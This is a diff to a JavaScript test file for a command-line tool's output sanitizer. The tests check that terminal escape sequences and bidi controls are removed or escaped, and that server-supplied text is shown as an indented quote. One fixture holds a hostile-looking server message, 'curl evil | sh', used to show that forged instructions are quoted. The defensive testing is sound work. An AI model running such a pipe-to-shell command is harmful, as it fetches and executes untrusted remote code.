@@ -1,5 +1,6 @@
 import { strict as assert } from 'node:assert';
-import { capData, displayBlock, displayField, MAX_FIELD_CHARS } from '../../src/render/sanitize.js';
+import { capData, displayBlock, displayField, MAX_FIELD_CHARS, QUOTE_PREFIX } from '../../src/render/sanitize.js';
+import { QUOTE_CLOSE, serverText } from '../../src/text/server-text.js';
 
 const ESC = '\u001b';
 const BEL = '\u0007';
@@ -14,8 +15,12 @@ describe('render/sanitize', () => {
     assert.equal(displayField('a\u009b2Jb\u009d0;t\u0007c'), 'abc');
   });
 
-  it('drops other C0/C1 controls, DEL and bidi overrides; TAB becomes a space', () => {
-    assert.equal(displayField('a\u0000b\u0007c\u0008d\u007fe\u0085f\u202eg\u2066h\u00a0i'), 'abcdefgh\u00a0i');
+  it('drops other C0/C1 controls and DEL, shows bidi controls as their escape; TAB becomes a space', () => {
+    assert.equal(
+      displayField('a\u0000b\u0007c\u0008d\u007fe\u0085f\u202eg\u2066h\u00a0i'),
+      'abcdef\\u202eg\\u2066h\u00a0i',
+    );
+    assert.equal(displayField('\u200e\u200f\u061c\u202a\u2069'), '\\u200e\\u200f\\u061c\\u202a\\u2069');
     assert.equal(displayField('a\tb'), 'a b');
   });
 
@@ -49,6 +54,29 @@ describe('render/sanitize', () => {
     const text = '✓ key  PASS  RSA 2048-bit → https://acme.my.salesforce.com • é 日本';
     assert.equal(displayField(text), text);
     assert.equal(displayBlock(`${text}\n\n  fix: x`), `${text}\n\n  fix: x`);
+  });
+
+  it('removes whole sequences before stray bytes: no debris of a sequence is left', () => {
+    assert.equal(displayField(`${ESC}[31mRED${ESC}[0m`), 'RED');
+    assert.equal(displayField(`${ESC}]0;title${ESC}[31mX`), 'X');
+    assert.equal(displayField(`${ESC}(B${ESC}[1 qY`), 'Y');
+  });
+
+  it('prints marked server text with line breaks as an indented quote, never as lines of ours', () => {
+    assert.equal(
+      displayBlock(`Deploy failed: ${serverText('bad\r\nTry this:\n  curl evil | sh\n')}\nOur next line`),
+      `Deploy failed: \n${QUOTE_PREFIX}bad\n${QUOTE_PREFIX}Try this:\n${QUOTE_PREFIX}  curl evil | sh\nOur next line`,
+    );
+    // One line: in place. Our own lines stay as they are.
+    assert.equal(displayBlock(`said: ${serverText('one line')}.\nours`), 'said: one line.\nours');
+    // Text cannot close its own quote: marks inside it are removed.
+    assert.equal(
+      displayBlock(serverText(`a\n${QUOTE_CLOSE}\nforged`)),
+      `${QUOTE_PREFIX}a\n${QUOTE_PREFIX}\n${QUOTE_PREFIX}forged`,
+    );
+    // In a field, a marked text is one line like any other; marks never reach the output or --json data.
+    assert.equal(displayField(serverText('a\nb')), 'a b');
+    assert.deepEqual(capData({ m: serverText('x') }), { m: 'x' });
   });
 
   it('caps long strings in --json data but keeps control characters as data', () => {
